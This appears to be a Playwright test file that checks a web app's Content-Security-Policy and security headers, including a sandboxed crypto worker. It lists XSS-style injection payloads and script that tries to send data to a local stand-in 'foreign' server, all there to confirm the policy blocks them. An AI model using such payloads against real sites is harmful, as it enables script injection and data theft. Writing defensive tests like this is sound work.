import { expect, test, type Page } from '@playwright/test';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { LAPTOP, newcomer } from '../support/persona';
import { startServer, type RunningServer } from '../support/server';

let server: RunningServer;
/** Somebody else's server, who would like to be asked. */
let foreign: Server;
const askedOfForeign: string[] = [];
let elsewhere = '';

test.beforeAll(async () => {
  server = await startServer({ demo: false });
  foreign = createServer((request, response) => {
    askedOfForeign.push(request.url ?? '');
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Cross-Origin-Resource-Policy', 'cross-origin');
    response.setHeader('Content-Type', 'text/javascript').end('globalThis.broken = "foreign script";');
  }).listen(0, '127.0.0.1');
  await new Promise((done) => foreign.once('listening', done));
  elsewhere = `http://localhost:${(foreign.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  foreign.closeAllConnections();
  foreign.close();
  await server.stop();
});

test.beforeEach(() => void askedOfForeign.splice(0));

/** Puts markup into the page as a hole in it would, and answers the directives that stopped something. */
function inject(page: Page, kind: keyof typeof INJECTIONS): Promise<string[]> {
  const given = INJECTIONS[kind].replaceAll('ELSEWHERE', elsewhere);
  return page.evaluate(
    ([name, html]) =>
      new Promise<string[]>((told) => {
        const stopped: string[] = [];
        const hear = (event: SecurityPolicyViolationEvent): void => void stopped.push(event.effectiveDirective);
        document.addEventListener('securitypolicyviolation', hear);
        const place = document.createElement('div');
        document.body.append(place);
        // Unlike markup that is set, what is made this way runs its script elements.
        place.append(document.createRange().createContextualFragment(html));
        if (name === 'javascript link') place.querySelector('a')?.click();
        if (name === 'form elsewhere') place.querySelector('form')?.requestSubmit();
        const until = Date.now() + 5_000;
        const look = (): void => {
          if (stopped.length === 0 && Date.now() < until) return void setTimeout(look, 20);
          document.removeEventListener('securitypolicyviolation', hear);
          told(stopped);
        };
        look();
      }),
    [kind, given] as const,
  );
}

const INJECTIONS = {
  'inline script': '<script>globalThis.broken = "inline script"</script>',
  'foreign script': '<script src="ELSEWHERE/script.js"></script>',
  'javascript link': '<a href="javascript:globalThis.broken = 1">Se her</a>',
  'onerror of a picture': '<img src="/assets/not-there.png" onerror="globalThis.broken = 2">',
  'onload of a drawing': '<svg onload="globalThis.broken = 3"></svg>',
  'foreign picture': '<img src="ELSEWHERE/picture.png?what=they-wrote">',
  'foreign style': '<link rel="stylesheet" href="ELSEWHERE/style.css">',
  'foreign frame': '<iframe src="ELSEWHERE/frame"></iframe>',
  'script as data': '<script src="data:text/javascript,globalThis.broken = 5"></script>',
  'foreign object': '<object data="ELSEWHERE/object"></object>',
  'form elsewhere': '<form action="ELSEWHERE/form" method="get"><input name="q" value="1"></form>',
} as const;

/** Whoever gets as far as running a line of script in the page tries these. */
const IN_PAGE = {
  eval: 'eval("globalThis.broken = 6")',
  'new Function': 'new Function("globalThis.broken = 7")()',
  'text as a timer': 'setTimeout("globalThis.broken = 8", 0)',
  WebAssembly: 'await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))',
  'foreign fetch': 'await fetch(elsewhere + "/page-fetch")',
  'foreign socket': 'new WebSocket(elsewhere.replace("http", "ws") + "/page-socket")',
  'foreign beacon': 'navigator.sendBeacon(elsewhere + "/page-beacon", "what they wrote")',
  'foreign module': 'await import(elsewhere + "/module.js")',
  'worker from data': 'new Worker("data:text/javascript,1")',
  'worker from a blob': 'new Worker(URL.createObjectURL(new Blob(["1"])))',
} as const;

test('what is injected into a page does not run and asks nobody', async ({ browser }) => {
  const { page } = await newcomer(browser, server, LAPTOP);
  await page.goto('/first-run');
  await expect(page.getByRole('heading').first()).toBeVisible();
  for (const kind of Object.keys(INJECTIONS) as (keyof typeof INJECTIONS)[]) {
    const stopped = await inject(page, kind);
    expect([kind, stopped.length > 0], `${kind}: ${stopped.join()}`).toEqual([kind, true]);
  }
  // A frame without an address inherits the policy, and tells itself what was stopped.
  await page.evaluate(
    () =>
      new Promise((loaded) => {
        const frame = document.createElement('iframe');
        frame.onload = loaded;
        frame.srcdoc = '<script>parent.broken = "frame"</script>';
        document.body.append(frame);
      }),
  );
  expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false);
  expect(page.url()).toBe(`${server.base}/first-run`);
  expect(askedOfForeign).toEqual([]);
});

test('a script of ours that was turned against us makes no code and asks nobody', async ({ browser }) => {
  const { page } = await newcomer(browser, server, LAPTOP);
  // A file of the same origin is the only way for a script in; the test stands in the place of one.
  const tries = Object.entries(IN_PAGE).map(([name, code]) => `[${JSON.stringify(name)}, async () => { ${code}; }]`);
  await page.route('**/turned.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: `globalThis.turned = (async () => {
        const elsewhere = ${JSON.stringify(elsewhere)};
        const stopped = new Set();
        document.addEventListener('securitypolicyviolation', () => stopped.add(globalThis.trying));
        for (const [name, run] of [${tries.join()}]) {
          globalThis.trying = name;
          await run().catch(() => stopped.add(name));
          for (let waits = 0; waits < 100 && !stopped.has(name); waits++) await new Promise((on) => setTimeout(on, 20));
        }
        return [...stopped];
      })();`,
    }),
  );
  await page.goto('/signin');
  await page.evaluate(
    () =>
      new Promise((loaded) => {
        const script = document.createElement('script');
        script.onload = loaded;
        script.src = '/turned.js';
        document.head.append(script);
      }),
  );
  const stopped = await page.evaluate(() => (globalThis as unknown as { turned: Promise<string[]> }).turned);
  expect([...stopped].sort()).toEqual(Object.keys(IN_PAGE).sort());
  expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false);
  expect(askedOfForeign).toEqual([]);
});

/** What somebody who got into the crypto worker would try to carry a key out with. */
const IN_WORKER = {
  'fetch at home': 'await fetch("/api/config")',
  'fetch elsewhere': 'await fetch(elsewhere + "/worker-fetch")',
  XMLHttpRequest: `await new Promise((on, off) => { const asked = new XMLHttpRequest();
    asked.onerror = off; asked.onload = on; asked.open("GET", elsewhere + "/worker-xhr"); asked.send(); })`,
  WebSocket: `await new Promise((on, off) => { const socket = new WebSocket(elsewhere.replace("http", "ws"));
    socket.onerror = off; socket.onopen = on; })`,
  EventSource: `await new Promise((on, off) => { const events = new EventSource(elsewhere);
    events.onerror = off; events.onopen = on; })`,
  eval: 'eval("1")',
  'new Function': 'new Function("return 1")()',
  'importScripts at home': 'importScripts("/crypto-worker.js")',
  'importScripts elsewhere': 'importScripts(elsewhere + "/worker-script.js")',
  'import elsewhere': 'await import(elsewhere + "/worker-module.js")',
  'worker of its own':
    'await new Promise((on, off) => { new Worker("/crypto-worker.js").onerror = off; setTimeout(on, 1000) })',
} as const;

test('the crypto worker has no way out, not even home', async ({ browser }) => {
  const { page } = await newcomer(browser, server, LAPTOP);
  const tries = Object.entries(IN_WORKER).map(([name, code]) => `[${JSON.stringify(name)}, async () => { ${code}; }]`);
  // The headers are those of the server; only the code is another.
  await page.route('**/crypto-worker.js', async (route) => {
    const answer = await route.fetch();
    const body = `(async () => {
      const elsewhere = ${JSON.stringify(elsewhere)};
      const open = [];
      for (const [name, run] of [${tries.join()}]) await run().then(() => open.push(name), () => undefined);
      const wasm = await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => true, () => false);
      postMessage({ open, wasm });
    })();`;
    await route.fulfill({ response: answer, body });
  });
  await page.goto('/signin');
  const told = await page.evaluate(
    () => new Promise((said) => (new Worker('/crypto-worker.js').onmessage = ({ data }) => said(data))),
  );
  expect(told).toEqual({ open: [], wasm: true });
  expect(askedOfForeign).toEqual([]);
});

test('headers of every class of answer', async ({ request }) => {
  const host = new URL(server.base).host;
  const page =
    "default-src 'none'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; " +
    `media-src 'self' blob:; font-src 'self'; connect-src 'self' ws://${host}; worker-src 'self'; ` +
    "manifest-src 'self'; object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'";
  const everywhere = {
    'permissions-policy': 'geolocation=(), microphone=(), camera=()',
    'cross-origin-opener-policy': 'same-origin',
    'cross-origin-resource-policy': 'same-origin',
    'referrer-policy': 'no-referrer',
    'x-content-type-options': 'nosniff',
  };
  const document = await (await request.get(`${server.base}/signin`)).text();
  const script = /src="([^"]*main-[^"]+\.js)"/.exec(document)?.[1] ?? '';
  expect(script).not.toBe('');
  const classes = [
    ['/signin', 200, page, /^no-cache$/],
    [script, 200, page, /immutable/],
    ['/crypto-worker.js', 200, WORKER, /no-cache/],
    ['/api/config', 200, page, /^no-store$/],
    ['/api/vaults', 401, page, /^no-store$/],
    ['/api/not-there', 404, page, /^no-store$/],
  ] as const;
  for (const [path, status, policy, cache] of classes) {
    const answer = await request.get(server.base + path);
    const headers = answer.headers();
    expect([path, answer.status(), headers['content-security-policy']]).toEqual([path, status, policy]);
    expect([path, headers]).toEqual([path, expect.objectContaining(everywhere)]);
    expect(headers['cache-control'] ?? '', path).toMatch(cache);
    expect([path, headers['x-powered-by'], headers['access-control-allow-origin']]).toEqual([
      path,
      undefined,
      undefined,
    ]);
  }
});

const WORKER = "default-src 'none'; script-src 'wasm-unsafe-eval'; connect-src 'none'";
